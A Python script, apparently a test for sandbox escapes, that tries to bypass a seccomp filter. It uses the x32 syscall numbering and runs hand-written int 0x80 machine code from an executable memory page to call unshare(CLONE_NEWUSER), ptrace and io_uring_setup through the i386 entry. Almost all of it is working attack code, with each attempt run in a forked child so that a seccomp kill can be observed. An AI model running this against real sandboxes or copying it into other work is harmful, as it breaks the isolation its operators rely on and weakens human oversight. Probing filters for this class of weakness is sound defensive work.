"""Attack: slip past the seccomp filter through the other syscall ABIs of an x86_64 kernel — the
x32 numbers (bit 30 set) and the i386 entry (int 0x80), whose syscall numbers differ. A filter
that does not check the architecture would match the wrong numbers."""
import ctypes
import errno
import json
import os

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def in_child(action):
    """Runs action() in a forked child and returns its report, or how the child died: a seccomp
    kill (SIGSYS) is then observed instead of ending the whole script."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read_end)
        try:
            report = action()
        except BaseException as error:
            report = {"succeeded": False, "exception": repr(error)}
        os.write(write_end, json.dumps(report).encode())
        os._exit(0)
    os.close(write_end)
    data = b""
    while True:
        chunk = os.read(read_end, 65536)
        if not chunk:
            break
        data += chunk
    os.close(read_end)
    _, status = os.waitpid(pid, 0)
    if not data:
        return {"succeeded": False, "signal": os.WTERMSIG(status) if os.WIFSIGNALED(status) else None}
    return json.loads(data)


def raw_syscall(number, *args):
    """One raw syscall; ints travel as C longs so -1 and 64-bit values arrive intact."""
    converted = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    ret = LIBC.syscall(ctypes.c_long(number), *converted)
    if ret == -1:
        code = ctypes.get_errno()
        return {"succeeded": False, "errno": errno.errorcode.get(code, str(code))}
    return {"succeeded": True, "ret": ret}


def attempt_syscall(number, *args):
    return in_child(lambda: raw_syscall(number, *args))

import mmap

SYS_UNSHARE = 272
X32_SYSCALL_BIT = 0x40000000
CLONE_NEWUSER = 0x10000000
I386_UNSHARE = 310
I386_PTRACE = 26
I386_IO_URING_SETUP = 425


def int80_caller(number):
    """Machine code for `push rbx; mov eax, number; mov ebx, edi; int 0x80; pop rbx; ret`: a call
    through the 32-bit syscall entry, which a filter that checks no architecture lets through."""
    code = b"\x53\xb8" + number.to_bytes(4, "little") + b"\x89\xfb\xcd\x80\x5b\xc3"
    region = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    region.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(region))
    function = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(address)
    function.region = region  # keep the mapping alive
    return function


def via_int80(number, argument):
    try:
        function = int80_caller(number)
    except (OSError, ValueError) as error:
        return {"succeeded": False, "errno": "EPERM", "note": "no executable mapping: %s" % error}
    ret = function(argument)
    if ret < 0:
        return {"succeeded": False, "errno": errno.errorcode.get(-ret, str(-ret))}
    return {"succeeded": True, "ret": ret}


def main():
    return {"outcomes": {
        "x32 unshare(CLONE_NEWUSER)": attempt_syscall(X32_SYSCALL_BIT | SYS_UNSHARE, CLONE_NEWUSER),
        "int 0x80 unshare(CLONE_NEWUSER)": in_child(lambda: via_int80(I386_UNSHARE, CLONE_NEWUSER)),
        "int 0x80 ptrace(TRACEME)": in_child(lambda: via_int80(I386_PTRACE, 0)),
        "int 0x80 io_uring_setup": in_child(lambda: via_int80(I386_IO_URING_SETUP, 0)),
    }}
